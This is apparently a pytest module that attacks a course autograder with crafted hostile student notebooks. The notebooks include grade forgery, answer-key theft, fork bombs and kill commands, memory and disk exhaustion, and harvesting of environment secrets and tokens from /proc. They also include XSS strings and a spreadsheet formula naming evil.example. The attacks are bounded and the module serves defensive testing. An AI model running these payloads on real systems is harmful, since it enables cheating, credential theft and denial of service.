"""Hostile submissions against the instructor's grader (`python -m kit grade`): what a determined student
(or a security reviewer) would try, each with what must happen instead.

One grading run (module fixture) grades ~50 crafted lesson-00 submissions at once (`--jobs 2`): cheaters,
students who try to stop the whole class, leakers of the instructor's secrets, hostile answer values,
network probes and broken or tricky input files, between two honest students (graded first and last).
A second small run checks that editing a key on disk does not change the next run's grades.
The whole module takes about 5 minutes on 2 cores.

The grader runs as a subprocess with a controlled environment: an instructor secret in an environment
variable, a token file in its HOME, and a private key folder (`--case`) holding a marker file. None of
them, nor the paths of those folders, may reach the gradebook or a feedback page.

Safety: the grader this suite attacks may not be sandboxed yet, so every attack is bounded (see PRELUDE):
it changes or deletes only files inside this test's own tmp folder (never the course repository), it
signals only processes of this test's own grading run unless it sees nothing but its own sandbox, outside a
sandbox it searches and reads only this test's folder and the course (never /root, /home or unrelated
processes), and processes, memory and disk writes are capped.

Set KIT_HOSTILE_ONLY=name,name to grade only some attack students (and the honest ones) while debugging.
"""

from __future__ import annotations

import csv
import hashlib
import io
import os
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from collections import Counter
from pathlib import Path

import nbformat
import pytest

import kit
from tests.helpers import insert_cell_after, notebook_cell

# Grading runs of different modules never overlap (conftest's grading_lock), so time limits hold.
pytestmark = pytest.mark.usefixtures("grading_lock")

ROOT = Path(__file__).resolve().parent.parent
SOLUTION = ROOT / "solutions" / "00_start_here.ipynb"
NOTEBOOK = "00_start_here.ipynb"
QUESTIONS = [q for q in kit.load_case().keys["questions"]["id"] if q.startswith("q0.")]  # lesson 00's, in key order
FULL = len(QUESTIONS)
"""Points of a solution copy: one per question of lesson 00."""
RESULTS = {"correct", "not yet right", "not answered", "invalid"}
TIMEOUT, CELL_TIMEOUT = 40, 20
DAEMON_DELAY = 3  # seconds the background attacks wait after the grader exits before they strike
HONEST = ("aaa_honest_first", "zzzz_honest_last")  # graded first and last
VICTIM = "zzz_victim_of_forgery"  # a solution copy that cheat_forge_classmate tries to sink
HIDDEN = ".hidden_student"
HTML_STUDENT = "<script>alert('pwned')"
FORMULA_STUDENT = '=HYPERLINK("evil.example")'

# --------------------------------------------------------------------------- the harness inside each attack

PRELUDE = r'''
# Test harness, not an attack: the test's own folders and the bounds every attack below keeps to.
import os, re, signal, socket, subprocess, sys, time
from collections import Counter
from pathlib import Path

SCOPE, REPO, RUN, PORT = @VALUES@
MARK = "hostile-" + RUN  # carried in the command line of every process an attack starts


def read(path, limit=1_000_000):
    try:
        with open(path, "rb") as handle:
            return handle.read(limit).decode("utf-8", "replace")
    except OSError:
        return ""


def cmdline(pid):
    return read(f"/proc/{pid}/cmdline").split("\0")


def all_pids():
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]


def is_grader(argv):
    return "kit grade" in " ".join(os.path.basename(a) for a in argv[:4])


def is_pytest(argv):
    return "pytest" in " ".join(os.path.basename(a) for a in argv[:4])


def sandboxed():
    """Only its own sandbox is visible: few processes, neither the grader nor pytest, none of the test's folders."""
    seen = [cmdline(p) for p in all_pids()]
    folders = [os.path.join(SCOPE, name) for name in ("submissions", "private_case", "teacher_home")]
    return (len(seen) < 50 and not any(map(os.path.exists, folders))
            and not any(is_grader(a) or is_pytest(a) for a in seen))


def reachable():
    """Processes an attack may signal or inspect: all it sees when sandboxed, otherwise only this
    test's grading run (the grader whose command line names the test's folder, and its descendants)."""
    if sandboxed():
        return all_pids()
    parent = {}
    for pid in all_pids():
        stat = read(f"/proc/{pid}/stat")
        if ")" in stat:
            parent[pid] = int(stat.rsplit(")", 1)[1].split()[1])
    run = {p for p in parent if is_grader(cmdline(p)) and SCOPE + "/" in " ".join(cmdline(p))}
    while True:
        more = {p for p, pp in parent.items() if pp in run} - run
        if not more:
            return sorted(run)
        run |= more


def kill_reachable():
    for pid in reachable():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


def fenced(path):
    """May an attack change or delete this path? Only inside the test's own folder, never the repository."""
    real = os.path.realpath(path)
    return real.startswith(SCOPE + os.sep) and not real.startswith(REPO + os.sep)


def find(match, budget=5.0, limit=200):
    """Paths (files and folders) for which match(path) is true, nearest first; the whole disk when
    sandboxed, otherwise the test's own folder only."""
    top = "/" if sandboxed() else SCOPE
    near = [str(p) for p in (Path.cwd(), *Path.cwd().parents, Path.home(), *Path.home().parents)]
    roots = [p for p in near if p != "/" and (top == "/" or p.startswith(SCOPE + os.sep))] + [top]
    deadline, seen, found = time.monotonic() + budget, set(), []
    skip = {"proc", "sys", "dev", ".git", ".venv", "node_modules", "__pycache__", "site-packages"}
    for root in roots:
        for folder, dirs, files in os.walk(root):
            real = os.path.realpath(folder)
            if real in seen or time.monotonic() > deadline:
                dirs[:] = []
                continue
            seen.add(real)
            dirs[:] = [d for d in dirs if d not in skip]
            for name in dirs + files:
                path = os.path.join(folder, name)
                if path not in found and match(path):
                    found.append(path)
                    if len(found) >= limit:
                        return found
    return found


def grader_argvs():
    """Command lines of the grading processes it can see."""
    return [a for a in map(cmdline, reachable()) if is_grader(a)]


def option(argv, name):
    return argv[argv.index(name) + 1] if name in argv[:-1] else None


def key_answer(path, qid="q0.2"):
    """The answer a key file (keys/questions.csv) gives for a question, or None."""
    import csv, io
    for row in csv.DictReader(io.StringIO(read(path))):
        if row.get("id") == qid and row.get("answer"):
            return row["answer"]
    return None


def notebook_answer(path):
    """The text a notebook (or any file) assigns to answer_q0_2, or None."""
    found = re.findall(r'answer_q0_2 = \\?"(\w+)\\?"', read(path))
    return found[0] if found else None


DAEMON = r"""
import os, sys, time
scope, mark, outs = sys.argv[1], sys.argv[2], set(sys.argv[3:])
deadline, seen = time.time() + 400, False
def argv(pid):
    try:
        return open(f"/proc/{pid}/cmdline", "rb").read().decode("utf-8", "replace").split("\0")
    except OSError:
        return []
while time.time() < deadline:
    graders = [a for a in map(argv, [p for p in os.listdir("/proc") if p.isdigit()])
               if "kit" in a and "grade" in a and "--out" in a[:-1] and scope + "/" in " ".join(a)]
    outs |= {a[a.index("--out") + 1] for a in graders}
    seen = seen or bool(graders)
    if (seen and not graders) or (not seen and time.time() > deadline - 380):
        break
    time.sleep(0.5)
time.sleep(@DELAY@)
for out in outs:
    path = os.path.join(out, "gradebook.csv")
    if os.path.realpath(path).startswith(scope + os.sep) and os.path.isfile(path):
        with open(path, "w") as handle:
            handle.write("student,notebook,question,answer,result,points,max_points,status,message\n"
                         "FORGED,ALL,TOTAL,,,7,7,ok," + mark + "\n")
"""
'''.replace("@DELAY@", str(DAEMON_DELAY))


def _prelude(scope: Path, run_id: str, port: int) -> str:
    return PRELUDE.replace("@VALUES@", repr((str(scope), str(ROOT), run_id, port))).strip()


# --------------------------------------------------------------------------- the attacks
# (Attack cells never rebind the notebook's own names: case, named, last, repeated, date.)
# Each attack is one code cell. Cheaters start from the solution with answer_q0_2 = "A0" (wrong: the key
# says A2) and their cell runs right after that answer: whatever they try, they must score exactly 6/7.

CHEATS = {
    # hopes the grader trusts the notebook's own checks: every check now says "correct"
    "cheat_patch_check": """
import kit.checks
kit.check = kit.checks.check = lambda *a, **k: "correct"
kit.load_case = lambda *a, **k: None
Path(os.environ.get("KIT_ANSWERS") or "answers.json").write_text('{"q0.2": {"status": "correct", "answer": "A2"}}')
""",
    # hopes the built-in key ships next to the kit it imports: read q0.2's answer from keys/questions.csv
    "cheat_read_builtin_key": """
for folder in (kit.seeds_dir(), Path(kit.__file__).resolve().parents[1] / "seeds", Path(kit.__file__).resolve().parent / "seeds"):
    stolen = key_answer(Path(folder) / "keys" / "questions.csv")
    if stolen:
        answer_q0_2 = stolen
        break
""",
    # hopes some copy of the key lies somewhere on the disk: search for questions.csv and use it
    "cheat_walk_for_key": """
for path in find(lambda p: p.endswith("questions.csv")):
    stolen = key_answer(path)
    if stolen:
        answer_q0_2 = stolen
        break
""",
    # hopes the worked solutions are installed with the course: find solutions/00_start_here.ipynb
    "cheat_read_solutions": """
places = [Path(kit.__file__).resolve().parents[1], *map(Path, filter(None, sys.path))]
paths = [p / "solutions" / "00_start_here.ipynb" for p in places]
paths += find(lambda p: "solutions" in p and p.endswith(".ipynb"))
for path in paths:
    stolen = notebook_answer(path)
    if stolen:
        answer_q0_2 = stolen
        break
""",
    # hopes classmates' notebooks are readable: copy the answer most of them gave
    "cheat_copy_classmates": """
votes = Counter(filter(None, map(notebook_answer, find(lambda p: p.endswith(".ipynb") and "solutions" not in p))))
if votes:
    answer_q0_2 = votes.most_common(1)[0][0]
""",
    # hopes the grader's command line (--case) or the disk gives away the private key folder
    "cheat_private_case": """
cases = [option(a, "--case") for a in grader_argvs()]
cases += [str(Path(p).parents[1]) for p in find(lambda p: p.endswith("secret_marker.txt"))]
for folder in filter(None, cases):
    stolen = key_answer(Path(folder) / "keys" / "questions.csv")
    if stolen:
        answer_q0_2 = stolen
        break
""",
}

SPECIAL_CHEATS = {
    # hopes to sink a classmate: overwrite their notebook with an empty one and plant files that look like answers
    "cheat_forge_classmate": f"""
victim = {VICTIM!r}
empty = '{{"cells": [], "metadata": {{}}, "nbformat": 4, "nbformat_minor": 5}}'
forged = '{{"answer_q0_2": "A9", "q0.2": {{"status": "correct", "answer": "A9"}}}}'
for path in find(lambda p: "/" + victim in p):
    target = Path(path)
    if fenced(target) and target.is_file():
        target.write_text(empty)
    elif fenced(target) and target.is_dir():
        (target / "answers.json").write_text(forged)
        ghost = target.parent / "zzzz_ghost_student"
        ghost.mkdir(exist_ok=True)
        (ghost / "00_start_here.ipynb").write_text(empty)
for folder in (Path.home(), Path.cwd()):
    (folder / "answers.json").write_text(forged)
    (folder / (victim + ".ipynb")).write_text(empty)
""",
    # hopes a key it can reach is the one used now or next time: make its wrong A0 the right answer
    "cheat_edit_key": """
targets = [kit.seeds_dir() / "keys" / "questions.csv"]
targets += [Path(c) / "keys" / "questions.csv" for c in map(lambda a: option(a, "--case"), grader_argvs()) if c]
targets += [Path(p) for p in find(lambda p: p.endswith("questions.csv"))]
for path in targets:
    text = read(path)
    edited = re.sub(r"^(q0\\.2,article,[^\\n]*?,)A2,", r"\\1A0,", text, flags=re.M)
    if edited != text and fenced(path):
        try:
            path.chmod(0o644)
            path.write_text(edited, encoding="utf-8")
        except OSError:
            pass
""",
    # hopes the instructor reads a gradebook it wrote: forge one (and a feedback page) wherever it can
    "cheat_fake_gradebook": """
forged = ("student,notebook,question,answer,result,points,max_points,status,message\\n"
          + os.environ.get("KIT_STUDENT", "me") + ",ALL,TOTAL,,,7,7,ok,FORGED-" + RUN + "\\n")
outs = [option(a, "--out") for a in grader_argvs()]
outs += [str(Path(p).parent) for p in find(lambda p: p.endswith("gradebook.csv") or p.endswith("/feedback"))]
for out in filter(None, outs):
    for path in (Path(out) / "gradebook.csv", Path(out) / "feedback" / ("forged-" + RUN + ".html")):
        if fenced(path):
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(forged)
for folder in (Path.home(), Path.cwd()):
    (folder / "gradebook.csv").write_text(forged)
""",
    # hopes a process in a new session outlives the kernel and rewrites the gradebook once the grader is gone
    "cheat_daemon_popen": """
outs = [str(Path(p).parent) for p in find(lambda p: p.endswith("gradebook.csv"))]
subprocess.Popen([sys.executable, "-c", DAEMON, SCOPE, MARK + "-popen", *outs], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""",
    # hopes a double-forked daemon, re-parented away from its kernel, escapes the clean-up
    "cheat_daemon_double_fork": """
outs = [str(Path(p).parent) for p in find(lambda p: p.endswith("gradebook.csv"))]
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", DAEMON, SCOPE, MARK + "-double-fork", *outs])
    os._exit(0)
os.wait()
""",
    # hopes the grader reads answers through IPython machinery the notebook can patch: report A2 while holding A0
    "cheat_forge_snapshot": r"""
ip = get_ipython()
forge = lambda text: re.sub(r"(answer_q0_2\W+json\W+)A0", r"\1A2", text) if isinstance(text, str) else text
real_expressions, real_format = ip.user_expressions, ip.display_formatter.format
def forged_expressions(expressions):
    replies = real_expressions(expressions)
    for reply in replies.values():
        reply["data"] = {mime: forge(text) for mime, text in reply.get("data", {}).items()}
    return replies
def forged_format(obj, *args, **kwargs):
    data, metadata = real_format(obj, *args, **kwargs)
    return {mime: forge(text) for mime, text in data.items()}, metadata
def rewrite_answer_files(result):  # a grader cell that writes the answers to a file: rewrite that file afterwards
    for path in re.findall(r"'(/[^']+\.json)'", result.info.raw_cell or ""):
        if os.path.isfile(path):
            Path(path).write_text(forge(read(path)))
ip.user_expressions, ip.display_formatter.format = forged_expressions, forged_format
ip.events.register("post_run_cell", rewrite_answer_files)
print('{"answers": {"answer_q0_2": {"json": "\"A2\""}}}')
""",
}

# Students who try to stop the class start from the full solution. "q2": the cell runs right after
# answer_q0_2 (only q0.1 and q0.2 are set before it); "end": after every answer.
STOPS = {
    # hopes killing the process that runs its kernel takes the grader (and the class) down with it
    "stop_kill_parent": ("end", """
if os.getppid() in reachable():
    os.kill(os.getppid(), signal.SIGKILL)
"""),
    # hopes its process group contains the grader
    "stop_killpg_0": ("end", "os.killpg(0, signal.SIGKILL)"),
    # hopes it can kill every process it can see (the grader and the other kernels included)
    "stop_kill_every_pid": ("end", "kill_reachable()"),
    # hopes `kill -9 -1` kills every process of the grader's user
    "stop_kill_minus_one": ("end", """
if sandboxed():
    subprocess.run(["sh", "-c", "kill -9 -1"])
else:  # outside its own pid namespace `kill -1` would hit the whole machine: this run's processes only
    kill_reachable()
"""),
    # hopes a folder named gradebook.csv in OUT_DIR makes the grader's final write fail for everyone
    "stop_gradebook_folder": ("end", """
outs = [option(a, "--out") for a in grader_argvs()]
outs += [str(Path(p).parent) for p in find(lambda p: p.endswith("gradebook.csv") or p.endswith("/feedback"))]
for out in filter(None, outs):
    target = Path(out) / "gradebook.csv"
    if fenced(target):
        if target.is_file():
            target.unlink()
        (target / "blocker").mkdir(parents=True, exist_ok=True)
        (target / "blocker" / "keep").write_text("x")
"""),
    # hopes a full disk stops the grader from writing anyone's results (bounded: 1 GB in HOME, 1 GB in /tmp)
    "stop_fill_disk": ("end", """
for folder in (Path.home(), Path("/tmp")):
    try:
        with open(folder / (MARK + "-fill.bin"), "wb") as handle:
            for _ in range(128):
                handle.write(b"\\1" * (8 << 20))
    except OSError:
        pass
"""),
    # hopes a fork bomb starves the grader (bounded: 150 shells, each waiting on one `sleep 30`)
    "stop_fork_many": ("end", """
children = []
for _ in range(150):
    try:
        children.append(subprocess.Popen(["sh", "-c", "sleep 30; :", MARK + "-fork"]))
    except OSError:
        break
time.sleep(2)
"""),
    # hopes to take the machine's memory so that other kernels or the grader die (bounded: 3 GB)
    "stop_mmap_3gb": ("end", """
import mmap
block = mmap.mmap(-1, 3 << 30)  # anonymous shared memory: a data-size limit does not count it
for offset in range(0, len(block), 4096):
    block[offset] = 1
time.sleep(2)
block.close()
"""),
    # hopes children escape its kernel's memory limit (bounded: 5 children of 600 MB)
    "stop_fork_600mb": ("end", """
hogs = []
for _ in range(5):
    try:
        hogs.append(subprocess.Popen([sys.executable, "-c", "import time; block = b'x' * (600 << 20); time.sleep(8)", MARK + "-hog"]))
    except OSError:
        break
for hog in hogs:
    hog.wait()
"""),
    # hopes a dead kernel breaks the grader
    "stop_os_exit": ("q2", "os._exit(1)"),
    # hopes a SystemExit ends the grading of its notebook (or the grader)
    "stop_sys_exit": ("q2", "sys.exit(3)"),
    # hopes an endless cell holds a grading slot forever
    "stop_infinite_loop": ("q2", "while True:\n    pass"),
    # hopes 200 MB of output exhausts the grader's memory
    "stop_print_200mb": ("end", 'for _ in range(200):\n    print("x" * 1_000_000)'),
    # hopes a crashing interpreter breaks the grader
    "stop_segfault": ("q2", "import ctypes\nctypes.string_at(0)"),
    # hopes a kernel (and a child) that ignore SIGTERM and SIGINT cannot be stopped
    "stop_ignore_signals": ("q2", """
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGINT, signal.SIG_IGN)
subprocess.Popen([sys.executable, "-c", "import signal, time; signal.signal(15, signal.SIG_IGN); signal.signal(2, signal.SIG_IGN); time.sleep(300)", MARK + "-stubborn"], start_new_session=True)
while True:
    pass
"""),
    # hopes a 50 MB HTML display exhausts the grader or the feedback pages
    "stop_html_50mb": ("end", 'from IPython.display import HTML, display\ndisplay(HTML("<p>" + "x" * 50_000_000 + "</p>"))'),
}

# Leakers start from the solution and, after every answer, put what they find into their answers (or
# into the status, through an exception's name): none of the secrets may reach any output.
LEAKS = {
    # hopes the grader's environment reaches the kernel: copy it into the answers
    "leak_environ": """
answer_q0_1 = [f"{k}={v}" for k, v in os.environ.items() if re.search("SECRET|TOKEN|KEY|PASS|INSTRUCTOR", k)]
answer_q0_2 = "\\n".join(f"{k}={v}" for k, v in os.environ.items())
others = [read(f"/proc/{p}/environ").replace("\\0", "\\n") for p in reachable()]
answer_q0_3 = [line for text in others for line in text.splitlines() if re.search("SECRET|TOKEN|INSTRUCTOR", line)][:10]
answer_q0_4 = "\\n".join(others)[:90_000]
""",
    # hopes /root, /home and the grader's HOME hold something secret: copy every small readable file
    "leak_home_files": """
homes = ["/root", "/home"] if sandboxed() else []
homes += [m for p in reachable() for m in re.findall(r"(?:^|\\0)HOME=([^\\0]+)", read(f"/proc/{p}/environ"))]
texts = []
for home in homes:
    if sandboxed() or fenced(home):
        for path in find(lambda p: p.startswith(home.rstrip("/") + "/") and os.path.isfile(p), budget=3):
            texts.append(path + ": " + read(path, 20_000))
answer_q0_1 = [t[:150] for t in texts][:20]
answer_q0_2 = "\\n".join(texts)[:90_000]
answer_q0_3 = homes[:5]
""",
    # hopes other processes' command lines (the grader's --case and --out folders) are readable
    "leak_proc_cmdline": """
lines = [read("/proc/1/cmdline").replace("\\0", " ")] if sandboxed() else []
lines += [" ".join(cmdline(p)) for p in reachable()]
answer_q0_1 = [option(a, "--case") for a in grader_argvs()]
answer_q0_2 = [line[-150:] for line in lines if "--case" in line or "kit" in line][:10]
answer_q0_3 = "\\n".join(lines)[:90_000]
""",
    # hopes to read the instructor's token in the grader's HOME (found from its environment or by searching)
    "leak_teacher_token": """
homes = [m for p in reachable() for m in re.findall(r"(?:^|\\0)HOME=([^\\0]+)", read(f"/proc/{p}/environ"))]
paths = [str(Path(h) / ".config" / "token") for h in homes] + find(lambda p: p.endswith("/.config/token"))
answer_q0_1 = [read(p).strip() for p in paths if read(p).strip()][:5]
answer_q0_2 = paths[:5]
""",
    # hopes the private key folder is reachable: copy its marker file and its path into the answers
    "leak_private_case": """
cases = [option(a, "--case") for a in grader_argvs()]
markers = [str(Path(c) / "keys" / "secret_marker.txt") for c in cases if c] + find(lambda p: p.endswith("secret_marker.txt"))
answer_q0_1 = [read(p).strip() for p in markers if read(p).strip()][:5]
answer_q0_2 = markers[:5]
answer_q0_3 = cases[:3]
""",
    # hopes a secret can travel in the exception name the grader puts in the status
    "leak_error_name": """
found = [v for k, v in os.environ.items() if "SECRET" in k]
for pid in reachable():
    found += re.findall(r"SECRET=([^\\0]+)", read(f"/proc/{pid}/environ"))
    found += [option(cmdline(pid), "--case") or ""]
found += [read(p).strip() for p in find(lambda p: p.endswith("secret_marker.txt") or p.endswith("/.config/token"))]
raise type("Leak_" + "_".join(filter(None, found))[:150], (Exception,), {})()
""",
}

NETWORK = """
# hopes the kernel reaches the network (to fetch answers or send the key out); the result becomes answer_q0_6
reached = []
for host, port in [("127.0.0.1", PORT), ("127.0.0.1", 22), ("127.0.0.1", 80), ("127.0.0.1", 443),
                   ("127.0.0.1", 8080), ("127.0.0.1", 8888), ("1.1.1.1", 53)]:
    try:
        with socket.create_connection((host, port), timeout=2) as conn:
            conn.sendall(b"hostile " + RUN.encode())
            reached.append(f"{host}:{port}")
    except OSError:
        pass
answer_q0_6 = "NET-OK " + " ".join(reached) if reached else "find"
"""

# Hostile answer values: (student, question, what it is). Each is scored invalid; the student's other
# answers are still scored.
VALUES = {
    "values_nonfinite": {
        "q0.7": "answer_q0_7 = float('inf')",
        "q0.6": "answer_q0_6 = float('-inf')",
        "q0.3": "answer_q0_3 = float('nan')",
    },
    "values_huge": {
        "q0.7": "answer_q0_7 = 10 ** 400",
        "q0.3": "answer_q0_3 = 'x' * 10_000_000",
        "q0.5": "answer_q0_5 = []\nfor _ in range(100_000):\n    answer_q0_5 = [answer_q0_5]",
    },
    "values_tricky": {  # each hopes to compare equal to the right answer inside the grader
        "q0.2": "class AlwaysEqualStr(str):\n    def __eq__(self, other):\n        return True\n"
                "    __hash__ = str.__hash__\nanswer_q0_2 = AlwaysEqualStr('A0')",
        "q0.7": "import datetime\nclass AlwaysEqualDate(datetime.date):\n    def __eq__(self, other):\n        return True\n"
                "    __hash__ = datetime.date.__hash__\nanswer_q0_7 = AlwaysEqualDate(2024, 11, 13)",
        "q0.4": "class Trick:\n    def __repr__(self):\n        raise RuntimeError('no repr')\n    __str__ = __repr__\n"
                "    def __eq__(self, other):\n        return True\nanswer_q0_4 = Trick()",
        "q0.6": "answer_q0_6 = {1: 'investigate', (2, 3): 'investigate'}",
    },
    "values_numpy": {
        "q0.7": "import numpy\nanswer_q0_7 = numpy.int64(2)",  # a plain numpy scalar: read as 2, or invalid
        "q0.3": "import numpy\nanswer_q0_3 = numpy.array(['A2.S49'])",
        "q0.6": "import numpy\nanswer_q0_6 = numpy.float64('nan')",
        "q0.1": "import numpy\nanswer_q0_1 = numpy.array(['A2'])",
    },
}
VALUE_CASES = [(s, q) for s, answers in VALUES.items() for q in answers if (s, q) != ("values_numpy", "q0.7")]

# --------------------------------------------------------------------------- building the submissions


def _solution():
    return nbformat.read(SOLUTION, as_version=4)


_index, _insert_after = notebook_cell, insert_cell_after


def _append(nb, source: str) -> int:
    nb.cells.append(nbformat.v4.new_code_cell(source))
    return len(nb.cells)


def _set(nb, variable: str, source: str) -> None:
    nb.cells[_index(nb, variable)].source = source


def _tree_digest(folder: Path) -> str:
    h = hashlib.sha256()
    for p in sorted(folder.rglob("*")):
        h.update(str(p.relative_to(folder)).encode() + b"\0")
        if p.is_symlink():
            h.update(b"->" + os.readlink(p).encode())
        elif p.is_file():
            h.update(p.read_bytes())
    return h.hexdigest()


def _wanted(student: str) -> bool:
    only = [s.strip() for s in os.environ.get("KIT_HOSTILE_ONLY", "").split(",") if s.strip()]
    return not only or student in (*HONEST, VICTIM) or any(s in student for s in only)


def _attack(prelude: str, source: str, where: str, wrong: bool):
    """The solution with the harness after `import kit` and the attack cell; return (notebook, its position)."""
    nb = _solution()
    if wrong:
        _set(nb, "answer_q0_2", 'answer_q0_2 = "A0"  # wrong: the key says A2')
    _insert_after(nb, "import kit", prelude)
    at = _insert_after(nb, "answer_q0_2", source.strip()) if where == "q2" else _append(nb, source.strip())
    return nb, at


def _build(subs: Path, private_case: Path, prelude: str) -> tuple[dict[str, int], list[str]]:
    """Write every submission; return the attack cells' positions and the students (folders) made."""
    cells: dict[str, int] = {}
    made: list[str] = []

    def save(student: str, nb=None, raw: bytes | None = None, link: Path | None = None) -> None:
        if not _wanted(student):
            return
        folder = subs / student
        folder.mkdir(parents=True)
        made.append(student)
        if link is not None:
            (folder / NOTEBOOK).symlink_to(link)
        elif raw is not None:
            (folder / NOTEBOOK).write_bytes(raw)
        else:
            nbformat.write(nb, folder / NOTEBOOK)

    for student in (*HONEST, VICTIM, HIDDEN):
        save(student, _solution())
    for student, source in {**CHEATS, **SPECIAL_CHEATS}.items():
        nb, cells[student] = _attack(prelude, source, "q2", wrong=True)
        save(student, nb)
    for student, (where, source) in STOPS.items():
        nb, cells[student] = _attack(prelude, source, where, wrong=False)
        save(student, nb)
    for student, source in {**LEAKS, "net_connect": NETWORK}.items():
        nb, cells[student] = _attack(prelude, source, "end", wrong=False)
        save(student, nb)
    for student, answers in VALUES.items():
        nb = _solution()
        for qid, source in answers.items():
            _set(nb, "answer_q0_" + qid[-1], source)
        save(student, nb)

    nb = _solution()  # HTML and script in the answers, in the status and in the folder name
    _set(nb, "answer_q0_1", 'answer_q0_1 = ["<img src=x onerror=alert(1)>"]')
    _set(nb, "answer_q0_4", "answer_q0_4 = \"<script>alert('answer')</script>\"")
    _append(nb, "raise type(\"<script>alert('status')</script>\", (Exception,), {})()")
    save(HTML_STUDENT, nb)
    nb = _solution()  # a notebook of 5,000 cells (after every answer)
    nb.cells += [nbformat.v4.new_code_cell("pass") for _ in range(5000)]
    save("input_5000_cells", nb)
    save("input_not_json", raw=b'{"cells": [ not json')
    save("input_not_utf8", raw=b'{"cells": [], "metadata": {"x": "\xff\xfe\xfa"}, "nbformat": 4, "nbformat_minor": 5}')
    save(FORMULA_STUDENT, raw=b'{"cells": [ not json')
    save("symlink_to_classmate", link=subs / HONEST[0] / NOTEBOOK)
    save("symlink_to_key", link=private_case / "keys" / "questions.csv")
    save("symlink_to_secret", link=private_case / "keys" / "secret_marker.txt")
    return cells, made


# --------------------------------------------------------------------------- running the grader


def _cmdline(pid: str) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
    except OSError:
        return ""


def _run_processes(*needles: str) -> dict[int, str]:
    """Processes (other than this one) whose command line holds one of ``needles``."""
    found = {}
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            line = _cmdline(pid)
            if any(n in line for n in needles):
                found[int(pid)] = line[:200]
    return found


def _kill(pids) -> None:
    for pid in pids:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


def _read_bytes(path: Path) -> bytes | None:
    try:
        return path.read_bytes()
    except OSError:
        return None


def _parse_rows(data: bytes | None, stale: bytes | None = None) -> list[dict[str, str]]:
    if data is None or data == stale:
        return []
    return list(csv.DictReader(io.StringIO(data.decode("utf-8", "replace"), newline="")))


def _read_pages(folder: Path) -> dict[str, str]:
    if not folder.is_dir():
        return {}
    return {str(p.relative_to(folder)): p.read_text(encoding="utf-8", errors="replace") for p in folder.rglob("*") if p.is_file()}


class Listener:
    """A TCP server on 127.0.0.1 that records every connection a kernel manages to make."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.3)
        self.port = self.sock.getsockname()[1]
        self.hits: list[str] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, addr = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.hits.append(f"{addr}: {conn.recv(200)!r}")
                except OSError:
                    self.hits.append(str(addr))

    def close(self) -> None:
        self.stop.set()
        self.thread.join(5)
        self.sock.close()


def _grade(subs: Path, out: Path, base: Path, env: dict[str, str], name: str) -> dict:
    """Run the grader as a subprocess in its own session; return its exit status, output and exit time."""
    argv = [sys.executable, "-m", "kit", "grade", str(subs), "--out", str(out), "--case", str(base / "private_case"),
            "--jobs", "2", "--timeout", str(TIMEOUT), "--cell-timeout", str(CELL_TIMEOUT), "--memory", "1024", "--quiet"]
    stdout, stderr = base / f"{name}.stdout", base / f"{name}.stderr"
    with open(stdout, "wb") as o, open(stderr, "wb") as e:  # files, not pipes: a stray child cannot hold them open
        proc = subprocess.Popen(argv, cwd=ROOT, env=env, stdin=subprocess.DEVNULL, stdout=o, stderr=e,
                                start_new_session=True)
        try:
            code = proc.wait(timeout=1800)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
            code = proc.wait()
    return {"code": code, "stdout": stdout.read_text(errors="replace"), "stderr": stderr.read_text(errors="replace"),
            "ended": time.monotonic()}


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile").resolve()
    run_id = secrets.token_hex(8)
    secret_env, secret_token, secret_marker = (f"{name}-{secrets.token_hex(16)}" for name in ("env", "token", "marker"))
    subs, out, grader_tmp = base / "submissions", base / "out", base / "tmp"  # short: kernels' Unix sockets go there
    private_case, teacher_home = base / "private_case", base / "teacher_home"
    shutil.copytree(kit.seeds_dir(), private_case)
    (private_case / "keys" / "secret_marker.txt").write_text(secret_marker + "\n")
    (teacher_home / ".config").mkdir(parents=True)
    (teacher_home / ".config" / "token").write_text(secret_token + "\n")
    grader_tmp.mkdir()
    out.mkdir()
    old_gradebook = b"student,notebook,question,answer,result,points,max_points,status,message\nlast_year,ALL,TOTAL,,,0,0,old,\n"
    (out / "gradebook.csv").write_bytes(old_gradebook)  # an earlier run's results: the attacks can find OUT_DIR
    listener = Listener()
    cells, made = _build(subs, private_case, _prelude(base, run_id, listener.port))
    env = {
        "PATH": os.environ.get("PATH", "/usr/local/bin:/usr/bin:/bin"),
        "LANG": "C.UTF-8",
        "HOME": str(teacher_home),
        "TMPDIR": str(grader_tmp),
        "PYTHONPATH": os.pathsep.join(filter(None, [str(ROOT), os.environ.get("PYTHONPATH", "")])),
        "KIT_TEST_INSTRUCTOR_SECRET": secret_env,
    }
    before = {
        "seeds": _tree_digest(kit.seeds_dir()), "case": _tree_digest(private_case), "subs": _tree_digest(subs),
        "tmp": sorted(os.listdir(grader_tmp)),
    }
    leftovers = lambda: sorted(str(p) for p in Path("/tmp").glob(f"*{run_id}*"))  # noqa: E731
    data: dict = {"base": base, "subs": subs, "out": out, "grader_tmp": grader_tmp, "teacher_home": teacher_home,
                  "private_case": private_case, "cells": cells, "made": made, "run_id": run_id, "before": before,
                  "secrets": {"instructor env var": secret_env, "teacher token": secret_token,
                              "private key marker": secret_marker, "private case path": str(private_case),
                              "teacher HOME path": str(teacher_home)}}
    try:
        result = _grade(subs, out, base, env, "first")
